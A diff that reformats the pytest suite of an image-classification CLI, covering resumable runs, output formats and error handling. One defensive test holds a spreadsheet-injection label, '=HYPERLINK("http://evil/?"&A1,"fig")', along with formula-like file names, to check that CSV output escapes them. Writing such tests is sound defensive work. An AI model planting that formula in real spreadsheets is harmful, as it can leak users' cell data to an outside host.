@@ -1,4 +1,6 @@
-"""`kd-predict`: the endpoint's answers for every image that is given in any form, once each, whatever kills it."""
+"""`kd-predict`: the endpoint's answers for every image that is given in any form, once
+each, whatever kills it.
+"""
 
 import csv
 import io
@@ -43,7 +45,9 @@ def pictures(photos, tmp_path_factory) -> Path:
     folder = tmp_path_factory.mktemp("pictures")
     (folder / "b" / ".hidden").mkdir(parents=True)
     for number, path in enumerate(sorted(photos.rglob("*.jpg"))[:6]):
-        name = ["0.jpg", "b/1.JPG", 'b/t,w"o.jpeg', "b/3\n.jpg", "z/ä.jpg", "b/5.png"][number]
+        name = ["0.jpg", "b/1.JPG", 'b/t,w"o.jpeg', "b/3\n.jpg", "z/ä.jpg", "b/5.png"][
+            number
+        ]
         (folder / name).parent.mkdir(exist_ok=True)
         Image.open(path).save(folder / name)
     good = (folder / "0.jpg").read_bytes()
@@ -60,36 +64,67 @@ def pictures(photos, tmp_path_factory) -> Path:
 def expected(exported, pictures) -> dict[str, dict]:
     """What the endpoint's own code answers for the good images."""
     model = load(describe(exported), 1, 1)
-    good = [p for p in sorted(pictures.rglob("*")) if p.is_file() and ".hidden" not in str(p)]
+    good = [
+        p
+        for p in sorted(pictures.rglob("*"))
+        if p.is_file() and ".hidden" not in str(p)
+    ]
     found = {}
     for path in good:
         if path.name not in ("cut.jpg", "empty.png", "old.bmp", "notes.txt"):
             pixels = prepare(path.read_bytes(), model.size, model.crop, Limits()).pixels
-            found[path.relative_to(pictures).as_posix()] = predictions(model.engine(pixels[None]), model.labels, 2)[0]
+            found[path.relative_to(pictures).as_posix()] = predictions(
+                model.engine(pixels[None]), model.labels, 2
+            )[0]
     assert len(found) == 6
     return found
 
 
 def test_drafts_of_a_killed_process_go(exported, pictures, command, tmp_path):
-    for name in (".all.csv.0123456789ab.tmp", ".all.csv.ba9876543210.tmp", ".other.csv.0123456789ab.tmp"):
+    for name in (
+        ".all.csv.0123456789ab.tmp",
+        ".all.csv.ba9876543210.tmp",
+        ".other.csv.0123456789ab.tmp",
+    ):
         (tmp_path / name).write_text("image,label")
-    assert command("predict", exported, pictures, "--to", tmp_path / "all.csv").code == 0
-    assert sorted(path.name for path in tmp_path.iterdir()) == [".other.csv.0123456789ab.tmp", "all.csv"]
+    assert (
+        command("predict", exported, pictures, "--to", tmp_path / "all.csv").code == 0
+    )
+    assert sorted(path.name for path in tmp_path.iterdir()) == [
+        ".other.csv.0123456789ab.tmp",
+        "all.csv",
+    ]
 
 
 def test_a_folder_becomes_csv(exported, pictures, expected, command, tmp_path):
     target = tmp_path / "out" / "all.csv"
     answer = command("predict", exported, pictures, "--to", target, "--top", "2")
     assert answer.code == 0, answer
-    rows = {row["image"]: row for row in csv.DictReader(io.StringIO(target.read_text(), newline=""))}
-    assert rows.keys() - expected.keys() == {"cut.jpg", "empty.png", "old.bmp", "gone.webp"}
+    rows = {
+        row["image"]: row
+        for row in csv.DictReader(io.StringIO(target.read_text(), newline=""))
+    }
+    assert rows.keys() - expected.keys() == {
+        "cut.jpg",
+        "empty.png",
+        "old.bmp",
+        "gone.webp",
+    }
     for name, one in expected.items():
         best, second = one["top"]
         found = rows.pop(name)
         assert (found["label"], float(found["score"])) == (best["label"], best["score"])
-        assert (found["label_2"], float(found["score_2"])) == (second["label"], second["score"])
+        assert (found["label_2"], float(found["score_2"])) == (
+            second["label"],
+            second["score"],
+        )
         assert not found["error"]
-    wanted = {"cut.jpg": "damaged", "empty.png": "empty", "old.bmp": "JPEG, PNG, WEBP", "gone.webp": "No such file"}
+    wanted = {
+        "cut.jpg": "damaged",
+        "empty.png": "empty",
+        "old.bmp": "JPEG, PNG, WEBP",
+        "gone.webp": "No such file",
+    }
     for name, word in wanted.items():
         assert word in rows[name]["error"]
         assert f"{name}: " in answer.err
@@ -118,16 +153,25 @@ def jsonl(path: Path) -> dict[str, dict]:
 
 
 def run(exported: Path, given: object, target: Path, **more) -> Path:
-    predict(PredictOptions(export=exported, images=str(given), to=target, top=2, cores=2, **more))
+    predict(
+        PredictOptions(
+            export=exported, images=str(given), to=target, top=2, cores=2, **more
+        )
+    )
     return target
 
 
-def test_every_form_of_images_and_results_gives_the_same(exported, pictures, expected, tmp_path, aws, monkeypatch):
+def test_every_form_of_images_and_results_gives_the_same(
+    exported, pictures, expected, tmp_path, aws, monkeypatch
+):
     names = [name for name in expected if "\n" not in name]
     wanted = {name: expected[name] for name in names}
     listed = tmp_path / "listed.txt"
     listed.write_text(
-        "\n".join([str(pictures / name) for name in names[:2]] + ["missing.jpg", "s3://bucket/missing.jpg", ""])
+        "\n".join(
+            [str(pictures / name) for name in names[:2]]
+            + ["missing.jpg", "s3://bucket/missing.jpg", ""]
+        )
     )
     rows = jsonl(run(exported, listed, tmp_path / "listed.jsonl"))
     assert "no such file" in rows.pop("s3://bucket/missing.jpg")["error"]
@@ -141,7 +185,10 @@ def test_every_form_of_images_and_results_gives_the_same(exported, pictures, exp
             tar.add(pictures / "notes.txt", f"{name.rpartition('.')[0]}.cls")
     rows = jsonl(run(exported, tmp_path / "few-{000..000}.tar", tmp_path / "tar.jsonl"))
     assert rows == {
-        f"few-000.tar/{name.rpartition('.')[0]}.{name.rpartition('.')[2].lower()}": wanted[name] for name in names
+        f"few-000.tar/{name.rpartition('.')[0]}.{name.rpartition('.')[2].lower()}": (
+            wanted[name]
+        )
+        for name in names
     }
 
     s3 = aws("s3")
@@ -153,26 +200,62 @@ def test_every_form_of_images_and_results_gives_the_same(exported, pictures, exp
     }
     s3.upload_file(str(shard), "bucket", "few-000.tar")
     run(exported, "s3://bucket/few-*.tar", tmp_path / "s3_tar.jsonl")
-    assert (tmp_path / "s3_tar.jsonl").read_bytes() == (tmp_path / "tar.jsonl").read_bytes()
+    assert (tmp_path / "s3_tar.jsonl").read_bytes() == (
+        tmp_path / "tar.jsonl"
+    ).read_bytes()
     assert not list(tmp_path.glob("*.shards"))
 
     monkeypatch.setattr("kd.deploy.predict.results.ROWS", 2)
-    table = pyarrow.parquet.read_table(run(exported, shard, tmp_path / "tar.parquet")).to_pylist()
-    assert {row["image"]: {"label": row["label"], "score": row["score"], "top": row["top"]} for row in table} == rows
+    table = pyarrow.parquet.read_table(
+        run(exported, shard, tmp_path / "tar.parquet")
+    ).to_pylist()
+    assert {
+        row["image"]: {"label": row["label"], "score": row["score"], "top": row["top"]}
+        for row in table
+    } == rows
 
 
-def test_killed_and_resumed_without_a_duplicate_or_a_gap(exported, pictures, expected, tmp_path):
-    """Stopped by SIGTERM, killed by SIGKILL, with a line cut off, then finished: the bytes of a run that was not."""
+def test_killed_and_resumed_without_a_duplicate_or_a_gap(
+    exported, pictures, expected, tmp_path
+):
+    """Stopped by SIGTERM, killed by SIGKILL, with a line cut off, then finished: the
+    bytes of a run that was not.
+    """
     listed = tmp_path / "listed.txt"
-    listed.write_text("\n".join([str(pictures / "0.jpg"), str(pictures / "b" / "5.png"), "missing.jpg"] * 1500))
+    listed.write_text(
+        "\n".join(
+            [str(pictures / "0.jpg"), str(pictures / "b" / "5.png"), "missing.jpg"]
+            * 1500
+        )
+    )
     whole = run(exported, listed, tmp_path / "whole.csv").read_bytes()
     target = tmp_path / "killed.csv"
     journal = tmp_path / "killed.csv.part"
-    argv = [sys.executable, "-c", ALONE, str(exported), str(listed), "--to", str(target), "--top", "2"]
+    argv = [
+        sys.executable,
+        "-c",
+        ALONE,
+        str(exported),
+        str(listed),
+        "--to",
+        str(target),
+        "--top",
+        "2",
+    ]
     begun = 0
     for number, code in ((signal.SIGTERM, 75), (signal.SIGKILL, -9)):
-        process = subprocess.Popen(argv, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, stderr=subprocess.PIPE)
-        wait_until(lambda size=begun + 20_000: journal.is_file() and journal.stat().st_size > size, process)
+        process = subprocess.Popen(
+            argv,
+            cwd=ROOT,
+            env={**os.environ, "PYTHONPATH": str(ROOT)},
+            stderr=subprocess.PIPE,
+        )
+        wait_until(
+            lambda size=begun + 20_000: (
+                journal.is_file() and journal.stat().st_size > size
+            ),
+            process,
+        )
         process.send_signal(number)
         process.communicate(timeout=30)
         assert process.returncode == code
@@ -182,11 +265,19 @@ def test_killed_and_resumed_without_a_duplicate_or_a_gap(exported, pictures, exp
     assert 100 < len(rows) < 4500
     with journal.open("ab") as file:
         file.write(b'{"image": "cut o')
-    done = subprocess.run(argv, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True)
+    done = subprocess.run(
+        argv,
+        cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode == 0, done.stderr
     assert target.read_bytes() == whole
     assert "1500 images are unreadable" in done.stderr
-    (last,) = [line for line in done.stdout.splitlines() if " by an earlier start, " in line]
+    (last,) = [
+        line for line in done.stdout.splitlines() if " by an earlier start, " in line
+    ]
     assert int(last.split(" images, ")[1].split()[0]) in range(len(rows) - 2, len(rows))
 
 
@@ -196,12 +287,16 @@ def twenty(pictures, tmp_path) -> Path:
     folder = tmp_path / "twenty"
     folder.mkdir()
     for number in range(20):
-        shutil.copy(pictures / ["0.jpg", "z/ä.jpg"][number % 2], folder / f"{number:02d}.jpg")
+        shutil.copy(
+            pictures / ["0.jpg", "z/ä.jpg"][number % 2], folder / f"{number:02d}.jpg"
+        )
     return folder
 
 
 def with_journal(exported: Path, given: object, target: Path) -> Path:
-    """Classify everything; return a journal as it was in the moment before it was removed."""
+    """Classify everything; return a journal as it was in the moment before it was
+    removed.
+    """
     journal, kept = target.with_name(target.name + ".part"), target.with_name("kept")
     journal.touch()
     os.link(journal, kept)
@@ -211,8 +306,22 @@ def with_journal(exported: Path, given: object, target: Path) -> Path:
     return journal
 
 
-def starts(exported: Path, given: object, target: Path, **more) -> subprocess.Popen[str]:
-    argv = [sys.executable, "-c", ALONE, str(exported), str(given), "--to", str(target), "--top", "2", "--threads", "1"]
+def starts(
+    exported: Path, given: object, target: Path, **more
+) -> subprocess.Popen[str]:
+    argv = [
+        sys.executable,
+        "-c",
+        ALONE,
+        str(exported),
+        str(given),
+        "--to",
+        str(target),
+        "--top",
+        "2",
+        "--threads",
+        "1",
+    ]
     environ = {**os.environ, "PYTHONPATH": str(ROOT)}
     pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
     return subprocess.Popen(argv, cwd=ROOT, env=environ, text=True, **pipes, **more)
@@ -220,10 +329,16 @@ def starts(exported: Path, given: object, target: Path, **more) -> subprocess.Po
 
 @pytest.mark.slow
 def test_a_folder_that_goes_away_ends_it_and_it_resumes(exported, twenty, tmp_path):
-    """The images that were left got rows "No such file", with exit code 0, and the journal was removed."""
+    """The images that were left got rows "No such file", with exit code 0, and the
+    journal was removed.
+    """
     for number in range(20, 3000):
         os.link(twenty / f"{number % 20:02d}.jpg", twenty / f"{number}.jpg")
-    target, journal, away = tmp_path / "rows.csv", tmp_path / "rows.csv.part", tmp_path / "away"
+    target, journal, away = (
+        tmp_path / "rows.csv",
+        tmp_path / "rows.csv.part",
+        tmp_path / "away",
+    )
     process = starts(exported, twenty, target)
     wait_until(lambda: journal.is_file() and journal.stat().st_size > 20_000, process)
     twenty.rename(away)
@@ -240,10 +355,15 @@ def test_a_folder_that_goes_away_ends_it_and_it_resumes(exported, twenty, tmp_pa
     out, err = process.communicate(timeout=60)
     assert process.returncode == 0, err
     assert f"3000 images, {rows} of them by an earlier start" in out
-    assert target.read_bytes() == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
+    assert (
+        target.read_bytes()
+        == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
+    )
 
 
-def test_pipes_and_sockets_get_a_row_with_an_error(exported, pictures, expected, tmp_path):
+def test_pipes_and_sockets_get_a_row_with_an_error(
+    exported, pictures, expected, tmp_path
+):
     """It waited for a writer for ever, and did not end by the first SIGTERM."""
     folder = tmp_path / "folder"
     folder.mkdir()
@@ -270,14 +390,21 @@ def test_sigterm_ends_it_during_a_hanging_read(exported, tmp_path):
         with connection:
             process.send_signal(signal.SIGTERM)
             _, err = process.communicate(timeout=20)
-    assert (process.returncode, err) == (75, "stopped by SIGTERM; the same command resumes\n")
+    assert (process.returncode, err) == (
+        75,
+        "stopped by SIGTERM; the same command resumes\n",
+    )
 
 
 ODD = ("=cmd.jpg", "-1.jpg", "@x.jpg", "a\rb.jpg", "c\nd.jpg", "e\r\nf.jpg", "ä.jpg")
 
 
-def test_odd_names_are_one_row_each_in_every_format(exported, pictures, expected, tmp_path):
-    r"""A name with \r was two rows, one that is not UTF-8 made the file unreadable, and spreadsheets ran =cmd."""
+def test_odd_names_are_one_row_each_in_every_format(
+    exported, pictures, expected, tmp_path
+):
+    r"""A name with \r was two rows, one that is not UTF-8 made the file unreadable, and
+    spreadsheets ran =cmd.
+    """
     folder = tmp_path / "folder"
     folder.mkdir()
     for name in (*map(os.fsencode, ODD), b"\xff\xe9.jpg"):
@@ -285,31 +412,51 @@ def test_odd_names_are_one_row_each_in_every_format(exported, pictures, expected
     names = {*ODD, "\\xff\\xe9.jpg"}
     text = run(exported, folder, tmp_path / "rows.csv").read_bytes().decode()
     rows = [row["image"] for row in csv.DictReader(io.StringIO(text, newline=""))]
-    assert sorted(rows) == sorted(f"./{name}" if name[0] in "=-@" else name for name in names)
+    assert sorted(rows) == sorted(
+        f"./{name}" if name[0] in "=-@" else name for name in names
+    )
     assert jsonl(run(exported, folder, tmp_path / "rows.jsonl")).keys() == names
     table = pyarrow.parquet.read_table(run(exported, folder, tmp_path / "rows.parquet"))
     assert set(table["image"].to_pylist()) == names
     listed = tmp_path / "listed.bin"
-    listed.write_bytes(b"".join(os.fsencode(folder) + b"/" + os.fsencode(name) + b"\0" for name in ODD))
-    assert jsonl(run(exported, listed, tmp_path / "listed.jsonl")) == {f"{folder}/{n}": expected["0.jpg"] for n in ODD}
+    listed.write_bytes(
+        b"".join(os.fsencode(folder) + b"/" + os.fsencode(name) + b"\0" for name in ODD)
+    )
+    assert jsonl(run(exported, listed, tmp_path / "listed.jsonl")) == {
+        f"{folder}/{n}": expected["0.jpg"] for n in ODD
+    }
 
 
 def test_a_label_of_a_strangers_export_is_no_formula_of_a_spreadsheet(tmp_path):
     labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2")
     top = [{"label": label, "score": 0.5} for label in labels]
     FORMATS[".csv"](tmp_path / "one", iter([{"image": "a.jpg", "top": top}]), 3, (), ())
-    FORMATS[".csv"](tmp_path / "several", iter([{"image": "a.jpg", "labels": top[:2]}]), 0, (), ())
-    files = (io.StringIO((tmp_path / name).read_bytes().decode(), newline="") for name in ("one", "several"))
+    FORMATS[".csv"](
+        tmp_path / "several", iter([{"image": "a.jpg", "labels": top[:2]}]), 0, (), ()
+    )
+    files = (
+        io.StringIO((tmp_path / name).read_bytes().decode(), newline="")
+        for name in ("one", "several")
+    )
     (one,), (several,) = map(csv.DictReader, files)
-    assert [one[key] for key in ("label", "label_2", "label_3")] == [f"'{labels[0]}", "'@SUM(1+1)", "-2"]
+    assert [one[key] for key in ("label", "label_2", "label_3")] == [
+        f"'{labels[0]}",
+        "'@SUM(1+1)",
+        "-2",
+    ]
     assert several["labels"] == f"'{labels[0]}|@SUM(1+1)"
 
 
-@pytest.mark.parametrize("form", ["file", "file without an ending", "bytes", "list", "list of find -print0", "pipe"])
+@pytest.mark.parametrize(
+    "form",
+    ["file", "file without an ending", "bytes", "list", "list of find -print0", "pipe"],
+)
 def test_one_image_and_the_standard_input(exported, pictures, expected, tmp_path, form):
     target, image = tmp_path / "rows.jsonl", pictures / "0.jpg"
     if form.startswith("file"):
-        image = Path(shutil.copy(image, tmp_path / ("a.jpg" if form == "file" else "a")))
+        image = Path(
+            shutil.copy(image, tmp_path / ("a.jpg" if form == "file" else "a"))
+        )
         assert jsonl(run(exported, image, target)) == {str(image): expected["0.jpg"]}
         return
     given = {
@@ -323,25 +470,42 @@ def test_one_image_and_the_standard_input(exported, pictures, expected, tmp_path
     argv = ["/dev/stdin" if form == "pipe" else "-", "--to", str(target), "--top", "2"]
     environ = {**os.environ, "PYTHONPATH": str(ROOT)}
     done = subprocess.run(
-        [sys.executable, "-c", ALONE, str(exported), *argv], cwd=pictures, env=environ, input=given, capture_output=True
+        [sys.executable, "-c", ALONE, str(exported), *argv],
+        cwd=pictures,
+        env=environ,
+        input=given,
+        capture_output=True,
     )
     assert done.returncode == 0, done.stderr
     assert jsonl(target) == {name: expected[image] for name, image in wanted.items()}
 
 
 @pytest.mark.parametrize(
-    "change", ["a row deleted", "a row twice", "a row of another image", "too many rows", "nothing"]
+    "change",
+    [
+        "a row deleted",
+        "a row twice",
+        "a row of another image",
+        "too many rows",
+        "nothing",
+    ],
 )
-def test_rows_that_are_not_of_the_image_at_their_place_are_made_again(exported, twenty, command, tmp_path, change):
+def test_rows_that_are_not_of_the_image_at_their_place_are_made_again(
+    exported, twenty, command, tmp_path, change
+):
     """A deleted row gave one image twice, and another one not at all."""
     target = tmp_path / "rows.csv"
     journal = with_journal(exported, twenty, target)
     whole = target.read_bytes()
     target.unlink()
     head, *rows = journal.read_bytes().splitlines(keepends=True)
-    done = {"a row deleted": 3, "a row twice": 4, "a row of another image": 3, "too many rows": 20, "nothing": 15}[
-        change
-    ]
+    done = {
+        "a row deleted": 3,
+        "a row twice": 4,
+        "a row of another image": 3,
+        "too many rows": 20,
+        "nothing": 15,
+    }[change]
     rows = {
         "a row deleted": rows[:3] + rows[4:15],
         "a row twice": rows[:4] + rows[3:15],
@@ -357,7 +521,9 @@ def test_rows_that_are_not_of_the_image_at_their_place_are_made_again(exported, 
     assert target.read_bytes() == whole
 
 
-def test_pictures_that_changed_between_two_starts_are_classified_again(exported, twenty, pictures, command, tmp_path):
+def test_pictures_that_changed_between_two_starts_are_classified_again(
+    exported, twenty, pictures, command, tmp_path
+):
     """Their old rows stayed."""
     target = tmp_path / "rows.csv"
     journal = with_journal(exported, twenty, target)
@@ -369,11 +535,17 @@ def test_pictures_that_changed_between_two_starts_are_classified_again(exported,
     assert answer.code == 0, answer
     assert "'04.jpg' has changed since its row was written" in answer.err
     assert "20 images, 4 of them" in answer.out
-    assert target.read_bytes() == run(exported, twenty, tmp_path / "new.csv").read_bytes() != old
+    assert (
+        target.read_bytes()
+        == run(exported, twenty, tmp_path / "new.csv").read_bytes()
+        != old
+    )
 
 
 @pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
-def test_killed_between_the_result_and_the_removal_of_its_journal(exported, twenty, command, refused, tmp_path, ending):
+def test_killed_between_the_result_and_the_removal_of_its_journal(
+    exported, twenty, command, refused, tmp_path, ending
+):
     """The result was whole, and a scheduler's next try ended with code 2."""
     target = tmp_path / f"rows.{ending}"
     journal = with_journal(exported, twenty, target)
@@ -385,13 +557,19 @@ def test_killed_between_the_result_and_the_removal_of_its_journal(exported, twen
     for result, rows in ((b"of somebody else", lines), (whole, lines[:9])):
         target.write_bytes(result)
         journal.write_bytes(b"".join(rows))
-        assert "exists" in refused("predict", exported, twenty, "--to", target, "--top", 2)
+        assert "exists" in refused(
+            "predict", exported, twenty, "--to", target, "--top", 2
+        )
         assert (target.read_bytes(), journal.read_bytes()) == (result, b"".join(rows))
 
 
 @pytest.mark.parametrize("bytes_left", [10, 1000])
-def test_a_full_disk_is_one_line_and_it_resumes(exported, twenty, command, tmp_path, bytes_left):
-    """It was a traceback. The system's own limit on the size of a file stands in for a full disk."""
+def test_a_full_disk_is_one_line_and_it_resumes(
+    exported, twenty, command, tmp_path, bytes_left
+):
+    """It was a traceback. The system's own limit on the size of a file stands in for a
+    full disk.
+    """
 
     def fill() -> None:
         resource.setrlimit(resource.RLIMIT_FSIZE, (bytes_left, resource.RLIM_INFINITY))
@@ -404,7 +582,10 @@ def test_a_full_disk_is_one_line_and_it_resumes(exported, twenty, command, tmp_p
     assert err.startswith("--to: cannot write '")
     assert not target.exists()
     assert command("predict", exported, twenty, "--to", target, "--top", 2).code == 0
-    assert target.read_bytes() == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
+    assert (
+        target.read_bytes()
+        == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
+    )
 
 
 def test_links_to_folders_are_followed(pictures, tmp_path):
@@ -432,8 +613,12 @@ def test_refusals(exported, pictures, refused, tmp_path):
     ):
         assert words in refused("predict", exported, given, "--to", tmp_path / to)
     (tmp_path / "new.csv.part").write_text('{"model": "another"}\n')
-    assert "version" in refused("predict", exported, pictures, "--to", tmp_path / "new.csv")
-    assert "is not an export" in refused("predict", pictures, pictures, "--to", tmp_path / "other.csv")
+    assert "version" in refused(
+        "predict", exported, pictures, "--to", tmp_path / "new.csv"
+    )
+    assert "is not an export" in refused(
+        "predict", pictures, pictures, "--to", tmp_path / "other.csv"
+    )
 
 
 def test_a_job_does_not_go_on_with_other_thresholds(exported, pictures, tmp_path):
@@ -443,12 +628,18 @@ def test_a_job_does_not_go_on_with_other_thresholds(exported, pictures, tmp_path
     def decide(threshold: float) -> None:
         manifest = json.loads((folder / "manifest.json").read_text())
         manifest.pop("checksum", None)
-        manifest["output"]["thresholds"] = {label: {"threshold": threshold} for label in describe(exported).labels}
+        manifest["output"]["thresholds"] = {
+            label: {"threshold": threshold} for label in describe(exported).labels
+        }
         (folder / "manifest.json").write_text(json.dumps(manifest))
 
     decide(0.5)
-    settings = PredictOptions(export=folder, images=str(pictures), to=tmp_path / "labels.csv")
-    identity = _identity(settings, describe(folder), None, find(str(pictures), tmp_path), 1)
+    settings = PredictOptions(
+        export=folder, images=str(pictures), to=tmp_path / "labels.csv"
+    )
+    identity = _identity(
+        settings, describe(folder), None, find(str(pictures), tmp_path), 1
+    )
     (tmp_path / "labels.csv.part").write_text(json.dumps(identity) + "\n")
     decide(0.6)
     with pytest.raises(RunError, match="other values of: thresholds"):
@@ -461,5 +652,9 @@ def test_a_journal_that_is_a_link_is_not_followed(exported, pictures, tmp_path):
     precious.write_text("precious")
     (tmp_path / "labels.csv.part").symlink_to(precious)
     with pytest.raises(RunError, match=r"labels\.csv\.part' is a link"):
-        predict(PredictOptions(export=exported, images=str(pictures), to=tmp_path / "labels.csv"))
+        predict(
+            PredictOptions(
+                export=exported, images=str(pictures), to=tmp_path / "labels.csv"
+            )
+        )
     assert precious.read_text() == "precious"
